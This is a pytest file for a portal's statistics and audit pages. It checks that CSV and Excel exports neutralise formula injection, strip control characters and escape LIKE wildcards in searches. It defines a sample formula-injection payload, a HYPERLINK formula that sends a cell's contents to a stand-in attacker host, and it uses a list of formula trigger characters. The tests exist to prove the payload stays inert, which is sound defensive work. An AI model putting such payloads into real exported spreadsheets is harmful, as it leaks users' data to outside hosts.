"""Issue 12: formula injection in exports (M5), control characters in the Excel export (M3), LIKE wildcards in
search boxes (L10). Real DuckDB files, the real 统计分析 page in AppTest; the files a download button offers are
read back with csv and openpyxl as a spreadsheet would."""

from __future__ import annotations

import csv
import datetime as dt
import io

import openpyxl
import pandas as pd
import pytest
from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage

from core import exports, interaction, login, security_audit, workflow
from tests.apptest_helpers import app_as, open_page, texts
from tests.conftest import make_org
from tests.test_interaction import form as message_form
from tests.test_interaction import solved
from tests.test_statistics import published

TODAY = dt.date.today()
ATTACK = '=HYPERLINK("http://evil.example/x?"&B2,"查看详情")'
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def csv_cells(data: bytes) -> list[list[str]]:
    assert data.startswith("\ufeff".encode()), "Excel needs the BOM to read Chinese"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def xlsx_cells(data: bytes) -> list[openpyxl.cell.Cell]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for line in sheet.iter_rows() for cell in line]


def runnable(text: str) -> bool:
    """What a spreadsheet opening a CSV would take for a formula."""
    return text.startswith(TRIGGERS)


@pytest.fixture
def offered(monkeypatch) -> dict[str, bytes]:
    """The bytes each download button on a page carries, by file name (recorded as Streamlit stores them)."""
    files: dict[str, bytes] = {}
    store = MemoryMediaFileStorage.load_and_get_id

    def recording(self, path_or_data, mimetype, kind, filename=None):
        if isinstance(path_or_data, bytes) and filename:
            files[filename] = path_or_data
        return store(self, path_or_data, mimetype, kind, filename)

    monkeypatch.setattr(MemoryMediaFileStorage, "load_and_get_id", recording)
    return files


def titled(con, monkeypatch, tmp_path, *titles: str, attack_login: bool = False):
    """The database file of `con`, with one published article per title (set in the stored rows, as an older
    import or version would have left them, whatever the input cleaning does today)."""
    monkeypatch.setenv("PORTAL_SITE", str(tmp_path / "site"))
    org = make_org(con)
    for n, title in enumerate(titles):
        article = published(con, org, f"电子信息产业推进会召开({n + 1})")
        con.execute("UPDATE articles SET title = ? WHERE id = ?", [title, article.id])
        con.execute("UPDATE revisions SET title = ? WHERE article_id = ?", [title, article.id])
    if attack_login:
        login.password_step(con, ATTACK, "wrong-password", "203.0.113.9")
    con.close()
    return tmp_path / "portal.duckdb"


def statistics_page(db_path, username):
    return open_page(app_as(db_path, username), "statistics")


def exported(files: dict[str, bytes], prefix: str, suffix: str) -> bytes:
    found = [data for name, data in files.items() if name.startswith(prefix) and name.endswith(suffix)]
    assert found, f"no {prefix}…{suffix} offered; offered: {sorted(files)}"
    return found[-1]


# ---------------------------------------------------------------- M5 formula injection

def test_a_user_name_tried_at_login_is_inert_in_the_audit_csv(con, org):
    """M5: a formula typed as a user name at login reaches the 安全审计 CSV as quoted text, never as a formula."""
    login.password_step(con, ATTACK, "wrong-password", "203.0.113.9")
    found = security_audit.search(con, org.tech, action="auth.login_failed")
    assert found and found[0]["actor"] == ATTACK.lower()
    cells = csv_cells(security_audit.export_csv(con, org.tech, found, "操作=auth.login_failed"))
    header, first = cells[0], cells[1]
    assert first[header.index("用户")] == "'" + ATTACK.lower()
    assert not [c for line in cells for c in line if runnable(c)]
    assert first[header.index("编号")] == str(found[0]["id"])  # numbers are still plain numbers


def test_a_title_starting_with_equals_is_inert_in_the_statistics_csv_and_xlsx(con, tmp_path, monkeypatch, offered):
    """M5: on 统计分析 a title starting with = is quoted text in the CSV and a text cell in the Excel file."""
    db_path = titled(con, monkeypatch, tmp_path, ATTACK)
    at = statistics_page(db_path, "analyst")
    assert not at.exception
    lines = csv_cells(exported(offered, "统计明细-", ".csv"))
    assert "'" + ATTACK in [c for line in lines for c in line]
    assert not [c for line in lines for c in line if runnable(c)]
    cells = xlsx_cells(exported(offered, "统计明细-", ".xlsx"))
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    title = [c for c in cells if c.value == ATTACK]
    assert title and title[0].data_type == "s" and title[0].quotePrefix
    totals = xlsx_cells(exported(offered, "统计分析-", ".xlsx"))
    assert [c.value for c in totals if c.data_type == "n"], "the figures stay numbers in the Excel file"


def test_numbers_stay_numbers_and_only_text_is_quoted():
    """M5: a negative number is a number in both files; text starting with = + - @ tab or CR is neutralised."""
    frame = pd.DataFrame({"名称": ["=1+2", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "'=1", "普通", None],
                          "数量": [-3, 0, 5, -7, 1, 2, 3, 4, 5],
                          "比率": [-1.5, None, 2.0, 0.5, 1.0, 1.0, 1.0, 1.0, 1.0]})
    lines = csv_cells(exports.to_csv_bytes(frame))
    assert [line[0] for line in lines[1:]] == ["'=1+2", "'+1", "'-1", "'@SUM(A1)", "'\t=1", "'\r=1", "''=1", "普通",
                                               ""]
    assert [line[1] for line in lines[1:4]] == ["-3", "0", "5"] and lines[1][2] == "-1.5" and lines[2][2] == ""
    cells = {c.coordinate: c for c in xlsx_cells(exports.to_xlsx_bytes({"统计": frame}))}
    assert not [c for c in cells.values() if c.data_type == "f"]
    assert (cells["A2"].value, cells["A2"].data_type, cells["A2"].quotePrefix) == ("=1+2", "s", True)
    assert (cells["B2"].value, cells["B2"].data_type, cells["C2"].value) == (-3, "n", -1.5)
    assert cells["A9"].value == "普通" and not cells["A9"].quotePrefix


# ---------------------------------------------------------------- M3 control characters in the Excel export

def test_a_title_with_control_characters_still_exports_to_excel(con, tmp_path, monkeypatch, offered):
    """M3: a title holding U+0001/U+0008 gives an Excel file openpyxl reads back, with the visible title kept."""
    db_path = titled(con, monkeypatch, tmp_path, "控制\x01字符\x08标题")
    at = statistics_page(db_path, "analyst")
    assert not at.exception
    cells = xlsx_cells(exported(offered, "统计明细-", ".xlsx"))
    assert "控制字符标题" in [c.value for c in cells]


def test_the_excel_writer_takes_any_table_on_its_own():
    """M3: control characters, lists, time zones and over-long text never stop the Excel file being made."""
    frame = pd.DataFrame({"标题": ["控制\x01字\x0b符\x1f", ["列", "表"], "长" * 40000, "=\x08"],
                          "时间": [dt.datetime(2026, 12, 1, 9, tzinfo=dt.UTC), pd.NaT, None, TODAY]},
                         dtype=object)
    cells = {c.coordinate: c for c in xlsx_cells(exports.to_xlsx_bytes({"统计[1]": frame}))}
    assert cells["A2"].value == "控制字符" and cells["A3"].value == "['列', '表']"
    assert len(cells["A4"].value) == 32767 and (cells["A5"].value, cells["A5"].quotePrefix) == ("=", True)
    assert cells["B2"].value == dt.datetime(2026, 12, 1, 9) and cells["B3"].value is None


@pytest.mark.parametrize("username", ["webmaster", "analyst"])
def test_a_title_with_control_characters_does_not_hide_the_bulletins(con, tmp_path, monkeypatch, username):
    """M3: with such a title 统计分析 runs to its end: the 通报 section is shown, no exception."""
    db_path = titled(con, monkeypatch, tmp_path, "控制\x01字符\x08标题")
    at = statistics_page(db_path, username)
    assert not at.exception
    assert "通报" in [s.value for s in at.subheader]
    assert "按月或按季度印发" in texts(at)
    labels = [b.label for b in at.get("download_button")]
    assert labels.count("导出 Excel") == 4  # the statistics' two tables and 培训情况's two (第十条(三))


# ---------------------------------------------------------------- L10 LIKE wildcards

@pytest.fixture
def wildcard_titles(con, org):
    for title in ("关于A_B项目的公示", "完成率达到95%的通报", "电子信息产业推进会召开"):
        workflow.create_article(con, org.officer, org.col_dz, title, "<p>正文。</p>", "电子信息处", TODAY, "一般")
    return org


@pytest.mark.parametrize(("typed", "expected"), [("_", ["关于A_B项目的公示"]), ("%", ["完成率达到95%的通报"]),
                                                 ("A_B", ["关于A_B项目的公示"]), ("\\", [])])
def test_wildcards_typed_in_the_article_search_match_only_themselves(con, wildcard_titles, typed, expected):
    """L10: "_" or "%" typed in 我的稿件/内容管理's search finds only titles that contain that character."""
    org = wildcard_titles
    assert [a["title"] for a in workflow.division_articles(con, org.officer, search=typed)] == expected
    everything = workflow.division_articles(con, org.webmaster, search=typed, everything=True)
    assert [a["title"] for a in everything] == expected


def test_wildcards_typed_in_the_audit_and_message_searches_match_only_themselves(con, org):
    """L10: "_" and "%" in 安全审计's filters and the message desk's search match only rows holding them."""
    login.password_step(con, "no_such_user", "wrong-password", "203.0.113.9")
    login.password_step(con, "nobody", "wrong-password", "203.0.113.9")
    assert {e["actor"] for e in security_audit.search(con, org.tech, who="_")} == {"no_such_user"}
    assert {e["actor"] for e in security_audit.search(con, org.tech, who="%")} == set()
    plain = interaction.submit(con, message_form(org), "198.51.100.7", solved(con))
    percent = interaction.submit(con, message_form(org, subject="补贴比例是否为50%?"), "198.51.100.8", solved(con))
    assert [m["id"] for m in interaction.search(con, org.webmaster, "%")] == [percent.id]
    assert plain.id in [m["id"] for m in interaction.search(con, org.webmaster, "补贴")]


# ---------------------------------------------------------------- in a real browser

@pytest.mark.browser
def test_in_the_browser_the_pages_offer_only_neutralised_spreadsheets(con, tmp_path, monkeypatch):
    """M5: in Chromium 统计分析 runs to 通报 with a formula title and a control-character title, and 安全审计's
    grid (holding a formula typed as a user name) offers no download of its own, only the page's 导出 CSV."""
    from playwright.sync_api import expect

    from tests.browser import chromium, go_to_page, login, servers, shot
    from tests.conftest import PASSWORD

    db_path = titled(con, monkeypatch, tmp_path, ATTACK, "控制\x01字符\x08标题", attack_login=True)
    with servers(db_path, tmp_path / "site") as (workbench, _portal), chromium() as browser:
        page = browser.new_page(viewport={"width": 1400, "height": 1000}, locale="zh-CN")
        login(page, workbench, "webmaster", PASSWORD)
        go_to_page(page, "统计分析")
        page.get_by_role("heading", name="通报", exact=True).wait_for(timeout=60000)
        # the statistics' two tables and 培训情况's two (第十条(三)): every export was made
        expect(page.locator('[data-testid="stDownloadButton"]', has_text="导出 Excel")).to_have_count(4, timeout=60000)
        assert page.get_by_text("未能生成").count() == 0
        page.get_by_role("heading", name="查看明细", exact=True).scroll_into_view_if_needed(timeout=60000)
        shot(page, "m5-statistics-details")
        page.get_by_role("heading", name="通报", exact=True).scroll_into_view_if_needed(timeout=60000)
        shot(page, "m5-statistics-bulletins")
        go_to_page(page, "安全审计")
        grid = page.locator('[data-testid="stDataFrame"]').first
        grid.wait_for(timeout=60000)
        grid.hover(timeout=30000)
        toolbar = page.locator('[data-testid="stElementToolbar"]').first
        toolbar.wait_for(timeout=30000)
        labels = [b.get_attribute("aria-label") or b.inner_text() for b in toolbar.locator("button").all()]
        assert labels and not [label for label in labels if "CSV" in label or "下载" in label or "Download" in label]
        expect(page.get_by_role("button", name="导出 CSV")).to_have_count(1, timeout=60000)
        shot(page, "m5-security-audit")
